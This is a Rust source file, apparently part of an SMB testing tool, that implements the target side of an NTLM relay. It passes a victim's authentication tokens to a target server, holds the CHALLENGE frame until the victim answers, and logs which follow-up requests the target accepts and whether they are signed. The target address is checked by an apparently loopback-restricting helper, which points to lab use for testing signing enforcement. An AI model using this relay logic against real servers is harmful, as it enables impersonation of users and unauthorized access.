//! The relay's connection to the target: `smb_core`'s [`ClientConnection`], the same client
//! state machine `smb-client` drives, with the victim's NTLM messages plugged in through its
//! [`Authenticator`] hook. MessageIds, credits, NEGOTIATE and the SESSION_SETUP legs are the
//! client's; this file only moves bytes and keeps the report.
//!
//! The victim's AUTHENTICATE exists only after the target's CHALLENGE has reached the victim,
//! but the hook must answer the CHALLENGE when the response is handed to the client. Being the
//! driver, the relay simply holds that response frame back: it reads the CHALLENGE out of it,
//! forwards it to the victim, waits for the AUTHENTICATE, puts it where the hook will find it,
//! and only then hands the frame to [`ClientConnection::handle_input`].

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use anyhow::{anyhow, bail, Context};
use smb_core::auth::{AuthError, Credentials};
use smb_core::compound::split_chain;
use smb_core::conn::client::{
    Authenticator, ClientConfig, ClientConnection, ClientError, ClientEvent, NegotiateInfo,
    ResponseBody,
};
use smb_core::header::{Command, Header, NtStatus};
use smb_core::messages::session_setup::SessionSetupResponse;
use smb_core::policy::SigningPolicy;
use tokio::net::TcpSocket;
use zeroize::Zeroizing;

use super::attempt::{RelayAttempt, Step};
use super::peer::{Peer, IO_TIMEOUT};
use super::RelayOptions;
use crate::loopback;

/// The victim's next token, handed from the driver to the mechanism.
type TokenSlot = Arc<Mutex<Option<Vec<u8>>>>;

/// The relay's GSS "mechanism": it forwards the victim's tokens and never knows the session
/// key, so the client treats the session as one without a key (nothing it sends is signed).
#[derive(Debug)]
struct RelayedNtlm {
    first: Option<Vec<u8>>,
    next: TokenSlot,
}

impl Authenticator for RelayedNtlm {
    fn initial_token(&mut self, _server_hint: &[u8]) -> Result<Vec<u8>, AuthError> {
        self.first.take().ok_or(AuthError::UnexpectedToken(
            "the victim's first token was already sent",
        ))
    }

    /// Called with the target's CHALLENGE (the driver has stashed the victim's AUTHENTICATE by
    /// then) and with the target's final token (nothing left to send).
    fn step(&mut self, _server_token: &[u8]) -> Result<Option<Vec<u8>>, AuthError> {
        let mut next = self
            .next
            .lock()
            .map_err(|_| AuthError::UnexpectedToken("token slot poisoned"))?;
        Ok(next.take())
    }

    fn session_key(&self) -> Option<Zeroizing<Vec<u8>>> {
        None
    }
}

/// What the first SESSION_SETUP leg led to.
#[derive(Debug)]
pub(crate) enum FirstLeg {
    /// MORE_PROCESSING_REQUIRED: the target's (SPNEGO-wrapped) CHALLENGE, to forward; the
    /// response frame is held until [`TargetConn::finish_session_setup`].
    Challenge { token: Vec<u8>, held: Vec<u8> },
    /// Any other status: authentication is over.
    Done(SetupReply),
}

/// How SESSION_SETUP ended on the target.
#[derive(Debug)]
pub(crate) struct SetupReply {
    pub(crate) status: NtStatus,
    pub(crate) guest: bool,
    /// The final response carried the SIGNED flag (the relay cannot check the signature).
    pub(crate) signed: bool,
}

/// The relay's client connection to the target.
#[derive(Debug)]
pub(crate) struct TargetConn {
    peer: Peer,
    conn: ClientConnection,
    /// Final answers by request id, as the client reported them.
    answers: HashMap<u64, (NtStatus, ResponseBody)>,
    /// The SIGNED flag of each final response, by MessageId, seen on the wire.
    signed: HashMap<u64, bool>,
    last_session_setup_signed: bool,
    setup_id: Option<u64>,
    next_token: TokenSlot,
    pub(crate) tree_id: u32,
}

impl TargetConn {
    pub(crate) async fn connect(opts: &RelayOptions) -> anyhow::Result<Self> {
        let target = loopback::check_connect("target", opts.target)?;
        let socket = if target.is_ipv4() {
            TcpSocket::new_v4()?
        } else {
            TcpSocket::new_v6()?
        };
        if let Some(src) = opts.source {
            socket
                .bind(SocketAddr::new(src, 0))
                .with_context(|| format!("binding source {src}"))?;
        }
        let stream = tokio::time::timeout(IO_TIMEOUT, socket.connect(target))
            .await
            .map_err(|_| anyhow!("timed out connecting to {target}"))?
            .with_context(|| format!("connecting to target {target}"))?;
        let _ = stream.set_nodelay(true);
        // A client that does not require signing: the relay could not sign anyway. The
        // credentials are never used: the victim's tokens go through the hook instead.
        let mut config = ClientConfig::new(&target.to_string(), Credentials::anonymous());
        config.dialects = opts.dialects.clone();
        config.signing = SigningPolicy::ENABLED;
        Ok(TargetConn {
            peer: Peer::new(stream),
            conn: ClientConnection::new(config),
            answers: HashMap::new(),
            signed: HashMap::new(),
            last_session_setup_signed: false,
            setup_id: None,
            next_token: TokenSlot::default(),
            tree_id: 0,
        })
    }

    /// NEGOTIATE with the relay's dialects.
    pub(crate) async fn negotiate(&mut self) -> anyhow::Result<NegotiateInfo> {
        let id = self.conn.negotiate().map_err(client_error)?;
        let (status, body) = self.answer(id).await.context("target NEGOTIATE")?;
        match body {
            ResponseBody::Negotiate(info) if status == NtStatus::SUCCESS => Ok(info),
            _ => bail!("target refused NEGOTIATE: {status}"),
        }
    }

    /// Sends the victim's first token; returns the target's CHALLENGE (its frame held back)
    /// or the end of the exchange.
    pub(crate) async fn begin_session_setup(
        &mut self,
        first_token: Vec<u8>,
    ) -> anyhow::Result<FirstLeg> {
        let mechanism = RelayedNtlm {
            first: Some(first_token),
            next: self.next_token.clone(),
        };
        let id = self
            .conn
            .session_setup_with(Box::new(mechanism))
            .map_err(client_error)?;
        self.setup_id = Some(id);
        self.flush().await?;
        loop {
            if let Some((status, body)) = self.answers.remove(&id) {
                return Ok(FirstLeg::Done(self.setup_reply(status, &body)));
            }
            let frame = self
                .peer
                .recv_frame()
                .await
                .context("target SESSION_SETUP")?;
            if let Some(token) = challenge_in(&frame)? {
                return Ok(FirstLeg::Challenge { token, held: frame });
            }
            self.feed(&frame).context("target SESSION_SETUP")?;
            self.flush().await?;
        }
    }

    /// Hands the held CHALLENGE frame to the client, which sends `authenticate` (the
    /// victim's, wrapped for the target) as the next leg; returns how SESSION_SETUP ended.
    pub(crate) async fn finish_session_setup(
        &mut self,
        held: Vec<u8>,
        authenticate: Vec<u8>,
    ) -> anyhow::Result<SetupReply> {
        let id = self
            .setup_id
            .ok_or_else(|| anyhow!("no SESSION_SETUP in progress"))?;
        *self
            .next_token
            .lock()
            .map_err(|_| anyhow!("token slot poisoned"))? = Some(authenticate);
        self.feed(&held).context("target SESSION_SETUP")?;
        let (status, body) = self.answer(id).await.context("target SESSION_SETUP")?;
        Ok(self.setup_reply(status, &body))
    }

    fn setup_reply(&self, status: NtStatus, body: &ResponseBody) -> SetupReply {
        SetupReply {
            status,
            guest: matches!(body, ResponseBody::SessionSetup { guest: true, .. }),
            signed: self.last_session_setup_signed,
        }
    }

    /// Queues one post-authentication request with `queue`, waits for its answer and records
    /// it as a step of the report. Returns the decoded answer when the target accepted it.
    pub(crate) async fn step<F>(
        &mut self,
        attempt: &mut RelayAttempt,
        request: &str,
        detail: &str,
        queue: F,
    ) -> Option<ResponseBody>
    where
        F: FnOnce(&mut ClientConnection) -> Result<u64, ClientError>,
    {
        let outcome = match queue(&mut self.conn) {
            Ok(id) => self.answer(id).await.map(|a| (id, a)),
            Err(e) => Err(client_error(e)),
        };
        let (status, accepted, signed, body) = match outcome {
            Ok((id, (status, body))) => (
                status.to_string(),
                status.is_success(),
                self.signed.get(&id).copied().unwrap_or(false),
                Some(body),
            ),
            Err(e) => (format!("no response ({e:#})"), false, false, None),
        };
        attempt.record(Step {
            request: request.to_string(),
            detail: detail.to_string(),
            status,
            accepted,
            response_signed: signed,
        });
        body.filter(|_| accepted)
    }

    pub(crate) async fn logoff(&mut self) {
        if let Ok(id) = self.conn.logoff() {
            let _ = self.answer(id).await;
        }
    }

    /// Sends what the client queued, then feeds it the target's frames until request `id` is
    /// answered.
    async fn answer(&mut self, id: u64) -> anyhow::Result<(NtStatus, ResponseBody)> {
        loop {
            self.flush().await?;
            if let Some(answer) = self.answers.remove(&id) {
                return Ok(answer);
            }
            let frame = self.peer.recv_frame().await?;
            self.feed(&frame)?;
        }
    }

    async fn flush(&mut self) -> anyhow::Result<()> {
        while let Some(message) = self.conn.poll_transmit() {
            self.peer.send(&message).await?;
        }
        Ok(())
    }

    /// One frame into the client: the SIGNED flags noted first (what the report shows), then
    /// the answers collected.
    fn feed(&mut self, frame: &[u8]) -> anyhow::Result<()> {
        for header in headers(frame) {
            let interim = header.status == NtStatus::PENDING && header.async_id.is_some();
            if header.is_response() && !interim {
                self.signed.insert(header.message_id, header.is_signed());
                if header.command == Command::SESSION_SETUP {
                    self.last_session_setup_signed = header.is_signed();
                }
            }
        }
        self.conn.handle_input(frame).map_err(client_error)?;
        while let Some(event) = self.conn.poll_event() {
            if let ClientEvent::Response {
                id, status, body, ..
            } = event
            {
                self.answers.insert(id, (status, body));
            }
        }
        Ok(())
    }
}

/// The headers of a frame's messages (those that parse).
fn headers(frame: &[u8]) -> Vec<Header> {
    split_chain(frame)
        .unwrap_or_default()
        .into_iter()
        .filter_map(|r| frame.get(r))
        .filter_map(|m| Header::parse(m).ok())
        .collect()
}

/// The security buffer of a SESSION_SETUP MORE_PROCESSING_REQUIRED response in `frame`.
fn challenge_in(frame: &[u8]) -> anyhow::Result<Option<Vec<u8>>> {
    let Some(range) = split_chain(frame).ok().and_then(|r| r.into_iter().next()) else {
        return Ok(None);
    };
    let message = &frame[range];
    let Ok(header) = Header::parse(message) else {
        return Ok(None);
    };
    if header.command != Command::SESSION_SETUP
        || !header.is_response()
        || header.status != NtStatus::MORE_PROCESSING_REQUIRED
    {
        return Ok(None);
    }
    let response = SessionSetupResponse::read(message).context("target's CHALLENGE response")?;
    Ok(Some(response.security_buffer))
}

fn client_error(e: ClientError) -> anyhow::Error {
    anyhow!("{e}")
}
